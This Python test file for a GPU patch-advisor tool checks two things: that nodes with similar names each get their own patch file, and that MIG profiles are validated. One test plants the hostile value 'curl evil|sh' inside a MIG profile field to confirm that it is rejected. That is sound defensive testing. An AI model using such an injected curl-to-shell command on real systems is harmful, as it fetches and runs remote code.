"""Names in a patch: files whose names differ, and the MIG profile of a ledger."""

from __future__ import annotations

import shlex

import pytest
from skuwise.advisor.core.advice_types import SavingsBaseline
from skuwise.advisor.patches.model import PatchSet
from skuwise.rules.base.errors import UsageError
from skuwise.tests.support.patch_cases import ONE_GPU_SCRIPT, accepted, patch_of

LONG = "gke-prod-eu-west4-training-a3-highgpu-8g-pool-1-3f2a9c1e-abc-k"


def named_once(made: PatchSet) -> list[str]:
    """The names of all files; each command names its own file last."""
    names = [one.name for part in made.parts for one in (part.patch, part.undo)]
    names += [one.name for one in (*made.originals, *made.more)]
    assert len(set(names)) == len(names)
    for part in made.parts:
        assert shlex.split(part.apply[0])[-1] == part.patch.name and shlex.split(part.revert[0])[-1] == part.undo.name
    return names


@pytest.mark.parametrize(
    "nodes", [(f"{LONG}1", f"{LONG}2"), ("gpu-1", "gpu.1", "gpu-1-2"), ("gpu-1-2", "gpu-1", "gpu.1")]
)
def test_nodes_of_like_names_have_a_file_each(nodes: tuple[str, ...]) -> None:
    made = patch_of("consolidate", "kubernetes", nodes=nodes)
    assert len(named_once(made)) == 2 * len(nodes)
    for part, node in zip(made.parts, nodes, strict=True):
        assert f"name: {node}\n" in part.patch.text and shlex.split(part.apply[0])[3] == node


@pytest.mark.parametrize("target", ["slurm", "kueue", "kubernetes"])
def test_a_mig_profile_of_the_ledger_is_checked_as_a_typed_one(target) -> None:
    entry = accepted("mig-slice", yardstick=SavingsBaseline(mig_profile="1g.10gb:1\ncurl evil|sh\n#"))
    given = (("job.sh", ONE_GPU_SCRIPT),) if target == "slurm" else ()
    if target == "kueue":
        given = (("queue.yaml", "apiVersion: kueue.x-k8s.io/v1beta1\nkind: ClusterQueue\nmetadata: {name: a}\nspec:\n"
                  "  resourceGroups:\n  - coveredResources: [nvidia.com/gpu]\n    flavors:\n    - name: a\n"
                  "      resources: [{name: nvidia.com/gpu, nominalQuota: 8}]\n"),)  # fmt: skip
    with pytest.raises(UsageError, match="not a valid MIG profile"):
        patch_of("mig-slice", target, *given, entry=entry, container="server")
